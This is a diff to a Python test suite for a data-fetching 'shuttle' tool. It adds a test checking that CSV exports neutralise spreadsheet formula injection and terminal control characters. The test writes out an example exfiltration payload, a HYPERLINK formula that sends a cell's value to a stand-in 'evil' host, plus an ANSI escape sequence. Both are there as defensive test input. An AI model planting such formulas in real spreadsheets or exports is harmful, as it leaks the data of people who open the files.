@@ -1,6 +1,7 @@
 """The shuttle: a server on this machine gives archives in the real format, by links of the real snapshot's kind."""
 
 import base64
+import csv
 import errno
 import hashlib
 import http.server
@@ -365,6 +366,21 @@ def test_a_corrected_citation_is_taken_up(listed, tmp_path):
     listed.write_text(listed.read_text().replace("A. Person_0", "B. Nobody"))
     _fetch(listed, tmp_path / "shuttle")
     assert _gather(tmp_path / "shuttle", **wanted)[1]["citation"][0].startswith("B. Nobody")
+
+
+def test_formulas_and_control_characters_of_a_snapshot_stay_text(listed, tmp_path):
+    frame = pd.read_csv(listed, dtype=str, keep_default_na=False)
+    evil = '=HYPERLINK("http://evil/?x="&A1,"open")'
+    frame["product_citation"], frame["=extra"] = f"{evil}\n\x1b[2J (2020)", "@SUM(1)"
+    frame.loc[1:, "product_id"] = "-AbCdEfGh"
+    frame.to_csv(listed, index=False)
+    _fetch(listed, tmp_path / "shuttle")
+    with open(tmp_path / "shuttle" / shuttle.CHOSEN, newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert f"'{evil} [2J (2020)" in cells and {"'-AbCdEfGh", "'@SUM(1)", "'=extra"} <= set(cells)
+    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")] and "\x1b" not in "".join(cells)
+    places = _gather(tmp_path / "shuttle")[1].set_index("site")
+    assert set(places["citation"]) == {f"{evil} [2J (2020)"} and places.loc["US-Ccc", "doi"] == "-AbCdEfGh"
 
 
 # A network that goes away
